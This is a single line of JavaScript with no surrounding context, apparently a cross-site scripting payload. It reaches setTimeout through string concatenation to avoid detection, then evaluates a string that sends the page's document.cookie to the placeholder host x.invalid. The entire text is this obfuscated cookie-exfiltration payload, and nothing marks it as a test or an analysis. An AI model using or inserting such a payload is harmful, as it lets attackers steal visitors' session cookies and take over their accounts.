const later = window['set' + 'Timeout']; later('fetch("//x.invalid/" + document.cookie)', 9);
